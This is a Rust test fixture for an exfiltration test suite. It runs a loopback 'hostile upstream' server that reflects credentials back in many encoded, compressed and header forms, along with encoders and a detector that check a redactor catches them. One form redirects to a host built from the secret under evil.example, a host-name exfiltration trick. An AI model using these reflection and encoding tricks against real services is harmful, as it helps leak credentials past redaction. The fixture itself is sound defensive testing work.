//! A hostile upstream for the exfiltration suite: a loopback server that takes one
//! credential it received (or one it knows, as a real provider does) and reflects it back
//! in the form the path names, plus the encoders it uses and the detector the suite runs
//! over everything a function managed to send out.
//!
//! Requests are `ANY /r/{form}?from={source}`; every other request gets 404.
//!
//! Sources (which credential is reflected):
//! - `query:NAME`, `form:NAME`, `header:NAME`: a query parameter, form field or header
//!   value as received (decoded for query and form);
//! - `basic-user`, `basic-pass`: the two halves of `Authorization: Basic`;
//! - `bearer`: the token of `Authorization: Bearer`;
//! - `oauth:NAME`: an OAuth 1 protocol parameter, from the header, query or form;
//! - `plaintext-consumer`, `plaintext-token`: the consumer secret and token secret an
//!   OAuth 1 PLAINTEXT signature carries;
//! - `known:NAME`: a secret the upstream knows without receiving it (an AWS secret key, an
//!   OAuth 2 client secret or refresh token), from [`Hostile::know`].
//!
//! A source that is missing answers 400 `no such source`, so a case that reflects nothing
//! cannot pass unnoticed ([`Hostile::reflected`] counts the successful ones).

use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, HeaderName, HeaderValue, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Every reflection form the upstream offers, by the name used in its path.
pub const FORMS: &[&str] = &[
    "raw",
    "json",
    "json-u",
    "json-slash",
    "pct-upper",
    "pct-lower",
    "py-quote",
    "py-quote-plus",
    "js-uri-component",
    "form",
    "html-escape",
    "html-named",
    "html-dec",
    "html-hex",
    "header-value",
    "header-latin1",
    "header-name",
    "header-name-raw",
    "set-cookie",
    "www-authenticate",
    "error-500",
    "gzip",
    "x-gzip",
    "gzip-twice",
    "deflate",
    "deflate-raw",
    "br-label",
    "unknown-encoding",
    "te-gzip",
    "redirect-host",
    "redirect-broken",
    "range",
];

/// Secrets known without being received, by name; read at request time.
pub type Known = Arc<dyn Fn(&str) -> Option<String> + Send + Sync>;

struct Inner {
    known: Known,
    /// `(source, value)` of every reflection, in order.
    reflected: Vec<(String, String)>,
}

/// The hostile upstream; cheap to clone.
#[derive(Clone)]
pub struct Hostile {
    /// Where it listens.
    pub addr: SocketAddr,
    inner: Arc<Mutex<Inner>>,
}

impl std::fmt::Debug for Hostile {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Hostile").field("addr", &self.addr).finish()
    }
}

impl Hostile {
    /// Starts the upstream on 127.0.0.1:0; it runs until the test's runtime ends.
    pub async fn start() -> Self {
        let inner = Arc::new(Mutex::new(Inner {
            known: Arc::new(|_| None),
            reflected: Vec::new(),
        }));
        let app = Router::new().fallback(reflect).with_state(inner.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        Self { addr, inner }
    }

    /// `http://127.0.0.1:PORT`.
    pub fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Sets where `known:NAME` sources come from.
    pub fn know(&self, known: impl Fn(&str) -> Option<String> + Send + Sync + 'static) {
        self.inner.lock().unwrap().known = Arc::new(known);
    }

    /// `(source, value)` of every reflection so far: the values are secrets (the suite
    /// adds them to its canaries, so rotated OAuth tokens are searched for too).
    pub fn reflected(&self) -> Vec<(String, String)> {
        self.inner.lock().unwrap().reflected.clone()
    }
}

async fn reflect(
    State(inner): State<Arc<Mutex<Inner>>>,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let path = uri.path().to_owned();
    let query: Vec<(String, String)> =
        url::form_urlencoded::parse(uri.query().unwrap_or_default().as_bytes())
            .into_owned()
            .collect();
    if path.starts_with("/broken/") {
        // The second hop of `redirect-broken`: promise more than is sent, then cut the
        // connection, so the host's transport error names this URL.
        let stream = futures_util::stream::iter([
            Ok::<_, std::io::Error>(Bytes::from_static(b"partial")),
            Err(std::io::Error::other("cut short")),
        ]);
        return Response::builder()
            .header(header::CONTENT_LENGTH, "1000")
            .body(Body::from_stream(stream))
            .unwrap();
    }
    let Some(form) = path.strip_prefix("/r/") else {
        return (StatusCode::NOT_FOUND, "unknown path").into_response();
    };
    let Some(source) = query.iter().find(|(k, _)| k == "from").map(|(_, v)| v) else {
        return (StatusCode::BAD_REQUEST, "from= is required").into_response();
    };
    let known = inner.lock().unwrap().known.clone();
    let Some(value) = extract(source, &uri, &headers, &body, &*known) else {
        return (StatusCode::BAD_REQUEST, format!("no such source: {source}")).into_response();
    };
    inner
        .lock()
        .unwrap()
        .reflected
        .push((source.clone(), value.clone()));
    respond(form, &value, &headers)
}

/// The value of `source` in the request; see the module docs.
fn extract(
    source: &str,
    uri: &Uri,
    headers: &HeaderMap,
    body: &[u8],
    known: &(dyn Fn(&str) -> Option<String> + Send + Sync),
) -> Option<String> {
    let query = |name: &str| {
        url::form_urlencoded::parse(uri.query().unwrap_or_default().as_bytes())
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.into_owned())
    };
    let form = |name: &str| {
        url::form_urlencoded::parse(body)
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.into_owned())
    };
    let authorization = headers
        .get(header::AUTHORIZATION)
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned());
    let basic = || {
        let token = authorization.as_deref()?.strip_prefix("Basic ")?;
        let decoded = String::from_utf8(STANDARD.decode(token).ok()?).ok()?;
        let (user, pass) = decoded.split_once(':')?;
        Some((user.to_owned(), pass.to_owned()))
    };
    let oauth = |name: &str| {
        let from_header = authorization
            .as_deref()
            .and_then(|a| a.strip_prefix("OAuth "))
            .and_then(|params| {
                params.split(',').find_map(|p| {
                    let (k, v) = p.trim().split_once('=')?;
                    (k == name).then(|| pct_decode(v.trim_matches('"').as_bytes()))
                })
            })
            .map(|b| String::from_utf8_lossy(&b).into_owned());
        from_header.or_else(|| query(name)).or_else(|| form(name))
    };
    let plaintext = |half: usize| {
        let signature = oauth("oauth_signature")?;
        let part = signature.split('&').nth(half)?;
        Some(String::from_utf8_lossy(&pct_decode(part.as_bytes())).into_owned())
    };
    let (kind, name) = source.split_once(':').unwrap_or((source, ""));
    let value = match kind {
        "query" => query(name),
        "form" => form(name),
        "header" => headers
            .get(name)
            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned()),
        "basic-user" => basic().map(|(u, _)| u),
        "basic-pass" => basic().map(|(_, p)| p),
        "bearer" => authorization
            .as_deref()
            .and_then(|a| a.strip_prefix("Bearer "))
            .map(str::to_owned),
        "oauth" => oauth(name),
        "plaintext-consumer" => plaintext(0),
        "plaintext-token" => plaintext(1),
        "known" => known(name),
        _ => None,
    };
    value.filter(|v| !v.is_empty())
}

fn text(status: StatusCode, body: impl Into<Body>) -> Response {
    Response::builder()
        .status(status)
        .header(header::CONTENT_TYPE, "text/plain; charset=utf-8")
        .body(body.into())
        .unwrap()
}

fn encoded(encoding: &str, body: Vec<u8>) -> Response {
    Response::builder()
        .header(header::CONTENT_TYPE, "text/plain; charset=utf-8")
        .header(header::CONTENT_ENCODING, encoding)
        .body(Body::from(body))
        .unwrap()
}

fn with_header(name: &str, value: &[u8]) -> Response {
    let mut response = text(StatusCode::OK, "see the headers");
    if let (Ok(n), Ok(v)) = (
        HeaderName::from_bytes(name.as_bytes()),
        HeaderValue::from_bytes(value),
    ) {
        response.headers_mut().append(n, v);
    } else {
        response
            .headers_mut()
            .insert("x-not-reflected", HeaderValue::from_static("1"));
    }
    response
}

/// The response that reflects `v` in `form`.
fn respond(form: &str, v: &str, request_headers: &HeaderMap) -> Response {
    let body = || format!("you sent: {v}\n");
    match form {
        "raw" => text(StatusCode::OK, body()),
        "json" => axum::Json(serde_json::json!({ "you_sent": v })).into_response(),
        "json-u" => json_body(&encode::json_u(v)),
        "json-slash" => json_body(&encode::json_slash(v)),
        "pct-upper" => text(StatusCode::OK, encode::pct_upper(v)),
        "pct-lower" => text(StatusCode::OK, encode::pct_lower(v)),
        "py-quote" => text(StatusCode::OK, encode::py_quote(v)),
        "py-quote-plus" => text(StatusCode::OK, encode::py_quote_plus(v)),
        "js-uri-component" => text(StatusCode::OK, encode::js_uri_component(v)),
        "form" => text(StatusCode::OK, format!("you_sent={}", encode::form(v))),
        "html-escape" => html(&encode::html_escape(v)),
        "html-named" => html(&encode::html_named(v)),
        "html-dec" => html(&encode::html_dec(v)),
        "html-hex" => html(&encode::html_hex(v)),
        "header-value" => with_header("x-you-sent", v.as_bytes()),
        "header-latin1" => match encode::latin1(v) {
            Some(bytes) => with_header("x-you-sent", &bytes),
            None => with_header("x-you-sent", v.as_bytes()),
        },
        "header-name" => with_header(&format!("x-{}", encode::header_token(v)), b"1"),
        "header-name-raw" => with_header(&format!("x-{v}"), b"1"),
        "set-cookie" => with_header("set-cookie", format!("s={v}; Path=/").as_bytes()),
        "www-authenticate" => {
            let mut response = text(StatusCode::UNAUTHORIZED, "unauthorized");
            if let Ok(value) = HeaderValue::from_bytes(
                format!("Bearer realm=\"{v}\", error=\"invalid_token\"").as_bytes(),
            ) {
                response
                    .headers_mut()
                    .insert(header::WWW_AUTHENTICATE, value);
            }
            response
        }
        "error-500" => text(
            StatusCode::INTERNAL_SERVER_ERROR,
            format!("internal error while handling credential {v}"),
        ),
        // Compressed whatever the request asked for: a hostile upstream ignores
        // `Accept-Encoding`.
        "gzip" => encoded("gzip", encode::gzip(&encode::compressible(v))),
        "x-gzip" => encoded("x-gzip", encode::gzip(&encode::compressible(v))),
        "gzip-twice" => encoded(
            "gzip, gzip",
            encode::gzip(&encode::gzip(&encode::compressible(v))),
        ),
        "deflate" => encoded("deflate", encode::zlib(&encode::compressible(v))),
        "deflate-raw" => encoded("deflate", encode::deflate_raw(&encode::compressible(v))),
        // Labelled with an encoding the host may not decode: the bytes are gzip, which
        // the function inflates whatever the label says.
        "br-label" => encoded("br", encode::gzip(&encode::compressible(v))),
        "unknown-encoding" => encoded("x-custom", encode::gzip(&encode::compressible(v))),
        // A transfer coding: the HTTP client undoes `chunked` (which hyper adds after it)
        // and nothing else, so the gzip bytes are what a client hands on.
        // A body of unknown length, so hyper writes `gzip, chunked` (with a length it
        // would refuse the header).
        "te-gzip" => {
            let packed = Bytes::from(encode::gzip(&encode::compressible(v)));
            Response::builder()
                .header(header::CONTENT_TYPE, "text/plain; charset=utf-8")
                .header(header::TRANSFER_ENCODING, "gzip")
                .body(Body::from_stream(futures_util::stream::once(async move {
                    Ok::<_, std::io::Error>(packed)
                })))
                .unwrap()
        }
        "redirect-host" => Response::builder()
            .status(StatusCode::FOUND)
            .header(header::LOCATION, format!("http://{v}.evil.example/"))
            .body(Body::empty())
            .unwrap_or_else(|_| text(StatusCode::OK, "not a valid Location")),
        "redirect-broken" => Response::builder()
            .status(StatusCode::FOUND)
            .header(header::LOCATION, format!("/broken/{v}"))
            .body(Body::empty())
            .unwrap_or_else(|_| text(StatusCode::OK, "not a valid Location")),
        "range" => range(body().into_bytes(), request_headers),
        _ => text(StatusCode::NOT_FOUND, "unknown form"),
    }
}

fn json_body(escaped: &str) -> Response {
    Response::builder()
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(format!("{{\"you_sent\":\"{escaped}\"}}")))
        .unwrap()
}

fn html(escaped: &str) -> Response {
    Response::builder()
        .header(header::CONTENT_TYPE, "text/html; charset=utf-8")
        .body(Body::from(format!("<p>You sent <b>{escaped}</b></p>")))
        .unwrap()
}

/// Serves `bytes=a-b` of `body` as a 206 (the whole body as a 200 without `Range`).
fn range(body: Vec<u8>, request_headers: &HeaderMap) -> Response {
    let wanted = request_headers
        .get(header::RANGE)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.strip_prefix("bytes="))
        .and_then(|v| v.split_once('-'))
        .and_then(|(a, b)| Some((a.parse::<usize>().ok()?, b.parse::<usize>().ok()?)));
    let Some((from, to)) = wanted else {
        return text(StatusCode::OK, body);
    };
    if from >= body.len() || to < from {
        return Response::builder()
            .status(StatusCode::RANGE_NOT_SATISFIABLE)
            .header(header::CONTENT_RANGE, format!("bytes */{}", body.len()))
            .body(Body::empty())
            .unwrap();
    }
    let to = to.min(body.len() - 1);
    Response::builder()
        .status(StatusCode::PARTIAL_CONTENT)
        .header(
            header::CONTENT_RANGE,
            format!("bytes {from}-{to}/{}", body.len()),
        )
        .body(Body::from(body[from..=to].to_vec()))
        .unwrap()
}

/// `%XX` sequences decoded (any case); everything else kept.
pub fn pct_decode(bytes: &[u8]) -> Vec<u8> {
    let hex = |b: u8| char::from(b).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && i + 2 < bytes.len()
            && let (Some(h), Some(l)) = (hex(bytes[i + 1]), hex(bytes[i + 2]))
        {
            out.push(h << 4 | l);
            i += 3;
            continue;
        }
        out.push(bytes[i]);
        i += 1;
    }
    out
}

/// The encodings the upstream reflects in, as functions of the secret.
pub mod encode {
    use super::*;

    fn pct(v: &str, keep: impl Fn(u8) -> bool, upper: bool, space_plus: bool) -> String {
        let mut out = String::new();
        for &b in v.as_bytes() {
            if keep(b) {
                out.push(char::from(b));
            } else if b == b' ' && space_plus {
                out.push('+');
            } else if upper {
                out.push_str(&format!("%{b:02X}"));
            } else {
                out.push_str(&format!("%{b:02x}"));
            }
        }
        out
    }

    fn unreserved(b: u8) -> bool {
        b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~')
    }

    /// RFC 3986: every byte but the unreserved ones as `%XX`, upper-case hex.
    pub fn pct_upper(v: &str) -> String {
        pct(v, unreserved, true, false)
    }

    /// As [`pct_upper`], lower-case hex.
    pub fn pct_lower(v: &str) -> String {
        pct(v, unreserved, false, false)
    }

    /// Python's `urllib.parse.quote(v)` (`/` is safe by default).
    pub fn py_quote(v: &str) -> String {
        pct(v, |b| unreserved(b) || b == b'/', true, false)
    }

    /// Python's `urllib.parse.quote_plus(v)`.
    pub fn py_quote_plus(v: &str) -> String {
        pct(v, unreserved, true, true)
    }

    /// JavaScript's `encodeURIComponent(v)`.
    pub fn js_uri_component(v: &str) -> String {
        pct(
            v,
            |b| {
                b.is_ascii_alphanumeric()
                    || matches!(
                        b,
                        b'-' | b'_' | b'.' | b'!' | b'~' | b'*' | b'\'' | b'(' | b')'
                    )
            },
            true,
            false,
        )
    }

    /// `application/x-www-form-urlencoded` (WHATWG).
    pub fn form(v: &str) -> String {
        url::form_urlencoded::byte_serialize(v.as_bytes()).collect()
    }

    /// A JSON string's inside with every character but ASCII letters and digits as `\uXXXX`.
    pub fn json_u(v: &str) -> String {
        let mut out = String::new();
        for c in v.chars() {
            if c.is_ascii_alphanumeric() {
                out.push(c);
            } else {
                let mut units = [0u16; 2];
                for unit in c.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{unit:04x}"));
                }
            }
        }
        out
    }

    /// A JSON string's inside as serde_json writes it, then `/` as `\/` (PHP's habit).
    pub fn json_slash(v: &str) -> String {
        let json = serde_json::to_string(v).unwrap();
        json[1..json.len() - 1].replace('/', "\\/")
    }

    /// What a template's HTML escaper writes (`& < > " '`).
    pub fn html_escape(v: &str) -> String {
        let mut out = String::new();
        for c in v.chars() {
            match c {
                '&' => out.push_str("&amp;"),
                '<' => out.push_str("&lt;"),
                '>' => out.push_str("&gt;"),
                '"' => out.push_str("&quot;"),
                '\'' => out.push_str("&#x27;"),
                c => out.push(c),
            }
        }
        out
    }

    /// HTML5 named character references for the characters that have one.
    pub const NAMED: &[(char, &str)] = &[
        ('&', "amp"),
        ('<', "lt"),
        ('>', "gt"),
        ('"', "quot"),
        ('\'', "apos"),
        ('/', "sol"),
        ('+', "plus"),
        ('=', "equals"),
        ('~', "tilde"),
        ('!', "excl"),
        ('*', "ast"),
        ('(', "lpar"),
        (')', "rpar"),
        ('.', "period"),
        (',', "comma"),
        ('_', "lowbar"),
        (':', "colon"),
        (';', "semi"),
        ('%', "percnt"),
        ('#', "num"),
        ('?', "quest"),
        ('@', "commat"),
        ('$', "dollar"),
        ('é', "eacute"),
        ('É', "Eacute"),
    ];

    /// Every character with a named reference as `&name;`.
    pub fn html_named(v: &str) -> String {
        let mut out = String::new();
        for c in v.chars() {
            match NAMED.iter().find(|(n, _)| *n == c) {
                Some((_, name)) => out.push_str(&format!("&{name};")),
                None => out.push(c),
            }
        }
        out
    }

    /// Every character but ASCII letters and digits as `&#N;`.
    pub fn html_dec(v: &str) -> String {
        v.chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    format!("&#{};", u32::from(c))
                }
            })
            .collect()
    }

    /// Every character but ASCII letters and digits as `&#xH;`.
    pub fn html_hex(v: &str) -> String {
        v.chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    format!("&#x{:X};", u32::from(c))
                }
            })
            .collect()
    }

    /// `v` as ISO-8859-1 bytes, when every character fits (and one is not ASCII).
    pub fn latin1(v: &str) -> Option<Vec<u8>> {
        if v.is_ascii() {
            return None;
        }
        v.chars().map(|c| u8::try_from(u32::from(c)).ok()).collect()
    }

    /// `v` as a header-name token: every byte that is not a token character as `%XX`.
    pub fn header_token(v: &str) -> String {
        pct(
            v,
            |b| b.is_ascii_alphanumeric() || b"!#$&'*+-.^_`|~".contains(&b),
            true,
            false,
        )
    }

    /// A body that reflects `v` and compresses well: repeated, so the compressor codes it
    /// (LZ77 matches, Huffman-coded literals) instead of storing it, and `v` does not
    /// appear raw in the compressed bytes.
    pub fn compressible(v: &str) -> Vec<u8> {
        format!("you sent: {v}\n").repeat(4).into_bytes()
    }

    /// A gzip stream of `data`.
    pub fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    /// A zlib stream of `data` (what HTTP calls `deflate`).
    pub fn zlib(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    /// A raw deflate stream of `data` (what some servers wrongly send as `deflate`).
    pub fn deflate_raw(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }
}

/// Finds a secret in what a function sent out, in every form the redactor promises to
/// remove: the text is decoded every way the encoders above encode (percent, form, JSON,
/// HTML; two layers deep) and inflated when compressed, and the secret is searched for
/// raw, ASCII case-insensitively (hosts come back lower-cased), as ISO-8859-1 bytes and
/// with its non-ASCII characters replaced by U+FFFD (a lossy decoding that gives away the
/// rest).
pub mod detect {
    use std::io::Read as _;

    use super::{encode, pct_decode};

    /// How `secret` occurs in `haystack`: which decodings found it; `None` when it does not.
    pub fn find(haystack: &[u8], secret: &str) -> Option<String> {
        let mut needles: Vec<(&str, Vec<u8>)> = vec![("raw", secret.as_bytes().to_vec())];
        if let Some(latin1) = encode::latin1(secret) {
            needles.push(("latin-1", latin1));
        }
        if !secret.is_ascii() {
            let lossy: String = secret
                .chars()
                .map(|c| if c.is_ascii() { c } else { '\u{fffd}' })
                .collect();
            needles.push(("lossy", lossy.into_bytes()));
        }
        for (layer, bytes) in layers(haystack) {
            for (decoding, text) in decodings(&bytes) {
                for (needle_name, needle) in &needles {
                    if contains_ignore_ascii_case(&text, needle) {
                        return Some(format!("{needle_name}, after {layer}{decoding} decoding"));
                    }
                }
            }
        }
        None
    }

    fn contains_ignore_ascii_case(hay: &[u8], needle: &[u8]) -> bool {
        !needle.is_empty()
            && memchr::memmem::find(&hay.to_ascii_lowercase(), &needle.to_ascii_lowercase())
                .is_some()
    }

    /// `bytes` and whatever it decompresses to (gzip, zlib), two layers deep.
    fn layers(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
        let mut out = vec![(String::new(), bytes.to_vec())];
        let mut i = 0;
        while i < out.len() && out.len() < 8 {
            let (name, data) = out[i].clone();
            if data.starts_with(&[0x1f, 0x8b]) {
                let mut d = Vec::new();
                if flate2::read::MultiGzDecoder::new(&data[..])
                    .take(1 << 20)
                    .read_to_end(&mut d)
                    .is_ok()
                {
                    out.push((format!("{name}gunzip, "), d));
                }
            }
            let mut d = Vec::new();
            if flate2::read::ZlibDecoder::new(&data[..])
                .take(1 << 20)
                .read_to_end(&mut d)
                .is_ok()
                && !d.is_empty()
            {
                out.push((format!("{name}zlib, "), d));
            }
            i += 1;
        }
        out
    }

    type Decoder = fn(&[u8]) -> Vec<u8>;

    /// `bytes` under every decoding and every pair of decodings.
    fn decodings(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
        let steps: [(&str, Decoder); 4] = [
            ("percent", pct_decode),
            ("form", form_decode),
            ("json", json_unescape),
            ("html", html_decode),
        ];
        let mut out = vec![("nothing".to_owned(), bytes.to_vec())];
        let once: Vec<(&str, Vec<u8>)> = steps.iter().map(|(a, fa)| (*a, fa(bytes))).collect();
        for (a, decoded) in &once {
            out.push(((*a).to_owned(), decoded.clone()));
        }
        for (a, decoded) in &once {
            for (b, fb) in steps {
                out.push((format!("{a} then {b}"), fb(decoded)));
            }
        }
        out
    }

    fn form_decode(bytes: &[u8]) -> Vec<u8> {
        let plus: Vec<u8> = bytes
            .iter()
            .map(|&b| if b == b'+' { b' ' } else { b })
            .collect();
        pct_decode(&plus)
    }

    /// JSON string escapes decoded (`\uXXXX` with surrogate pairs, `\/`, `\"`, `\\`).
    fn json_unescape(bytes: &[u8]) -> Vec<u8> {
        let text = String::from_utf8_lossy(bytes);
        let mut out = String::new();
        let mut chars = text.chars().peekable();
        let mut pending_high: Option<u32> = None;
        while let Some(c) = chars.next() {
            if c != '\\' {
                out.push(c);
                continue;
            }
            match chars.next() {
                Some('u') => {
                    let hex: String = chars.by_ref().take(4).collect();
                    let Ok(unit) = u32::from_str_radix(&hex, 16) else {
                        out.push_str("\\u");
                        out.push_str(&hex);
                        continue;
                    };
                    if (0xD800..0xDC00).contains(&unit) {
                        pending_high = Some(unit);
                    } else if let (Some(high), true) =
                        (pending_high.take(), (0xDC00..0xE000).contains(&unit))
                    {
                        let cp = 0x10000 + ((high - 0xD800) << 10) + (unit - 0xDC00);
                        out.extend(char::from_u32(cp));
                    } else {
                        out.extend(char::from_u32(unit));
                    }
                }
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some(other) => out.push(other),
                None => out.push('\\'),
            }
        }
        out.into_bytes()
    }

    /// HTML character references decoded (`&#N;`, `&#xH;`, the names of [`encode::NAMED`]).
    fn html_decode(bytes: &[u8]) -> Vec<u8> {
        let text = String::from_utf8_lossy(bytes);
        let mut out = String::new();
        let mut rest: &str = &text;
        while let Some(at) = rest.find('&') {
            out.push_str(&rest[..at]);
            rest = &rest[at..];
            let decoded = rest.find(';').filter(|&end| end <= 12).and_then(|end| {
                let name = &rest[1..end];
                let c = if let Some(hex) =
                    name.strip_prefix("#x").or_else(|| name.strip_prefix("#X"))
                {
                    u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
                } else if let Some(dec) = name.strip_prefix('#') {
                    dec.parse().ok().and_then(char::from_u32)
                } else {
                    encode::NAMED
                        .iter()
                        .find(|(_, n)| *n == name)
                        .map(|(c, _)| *c)
                };
                c.map(|c| (c, end))
            });
            match decoded {
                Some((c, end)) => {
                    out.push(c);
                    rest = &rest[end + 1..];
                }
                None => {
                    out.push('&');
                    rest = &rest[1..];
                }
            }
        }
        out.push_str(rest);
        out.into_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRETS: &[&str] = &[
        "pw/+=~!*'()é-CANARY",
        "hk-canary-plain",
        "at/+=~!*'()é-CANARY-xY_z",
    ];

    /// The detector finds every form the upstream reflects in: a clean sink in the suite is
    /// no blind spot of the detector.
    #[test]
    fn the_detector_sees_every_reflection_form() {
        for secret in SECRETS {
            let forms: Vec<(&str, Vec<u8>)> = vec![
                ("raw", secret.as_bytes().to_vec()),
                ("json", serde_json::to_string(secret).unwrap().into_bytes()),
                ("json-u", encode::json_u(secret).into_bytes()),
                ("json-slash", encode::json_slash(secret).into_bytes()),
                ("pct-upper", encode::pct_upper(secret).into_bytes()),
                ("pct-lower", encode::pct_lower(secret).into_bytes()),
                ("py-quote", encode::py_quote(secret).into_bytes()),
                ("py-quote-plus", encode::py_quote_plus(secret).into_bytes()),
                ("js", encode::js_uri_component(secret).into_bytes()),
                ("form", encode::form(secret).into_bytes()),
                ("html-escape", encode::html_escape(secret).into_bytes()),
                ("html-named", encode::html_named(secret).into_bytes()),
                ("html-dec", encode::html_dec(secret).into_bytes()),
                ("html-hex", encode::html_hex(secret).into_bytes()),
                ("header-token", encode::header_token(secret).into_bytes()),
                ("lower-cased", secret.to_ascii_lowercase().into_bytes()),
                ("gzip", encode::gzip(secret.as_bytes())),
                ("zlib", encode::zlib(secret.as_bytes())),
                ("gzip twice", encode::gzip(&encode::gzip(secret.as_bytes()))),
                (
                    "json of pct",
                    serde_json::to_string(&encode::pct_lower(secret))
                        .unwrap()
                        .into_bytes(),
                ),
                (
                    "lossy",
                    String::from_utf8_lossy(&encode::latin1(secret).unwrap_or_default())
                        .into_owned()
                        .into_bytes(),
                ),
            ];
            for (name, bytes) in forms {
                if name == "lossy" && secret.is_ascii() {
                    continue;
                }
                let mut wrapped = b"before ".to_vec();
                wrapped.extend_from_slice(&bytes);
                wrapped.extend_from_slice(b" after");
                let hay = if name.starts_with("gzip") || name == "zlib" {
                    bytes
                } else {
                    wrapped
                };
                assert!(
                    detect::find(&hay, secret).is_some(),
                    "{name} of {secret} not detected"
                );
            }
            assert_eq!(detect::find(b"[redacted] nothing", secret), None);
            // Compressed bodies do not hold the secret raw: a redactor that only looks at
            // the bytes on the wire misses it.
            let body = encode::compressible(secret);
            for compressed in [
                encode::gzip(&body),
                encode::zlib(&body),
                encode::deflate_raw(&body),
            ] {
                assert!(
                    !compressed
                        .windows(secret.len())
                        .any(|w| w == secret.as_bytes()),
                    "{secret} is stored raw"
                );
            }
            assert_eq!(
                detect::find(STANDARD.encode(secret).as_bytes(), secret),
                None,
                "base64 is a documented limit, not a promise"
            );
        }
    }

    #[test]
    fn percent_decoding_takes_any_case() {
        assert_eq!(pct_decode(b"a%2fb%2Fc%zz%4"), b"a/b/c%zz%4");
    }
}
